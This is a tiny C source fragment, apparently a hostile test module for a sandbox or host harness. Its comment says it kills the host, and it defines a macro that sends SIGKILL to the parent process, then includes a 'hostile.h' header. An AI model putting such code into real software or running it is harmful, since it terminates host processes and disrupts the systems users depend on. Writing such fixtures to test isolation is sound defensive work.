/* Kills the host. */
#define ON_RUN kill(getppid(), SIGKILL);
#include "hostile.h"
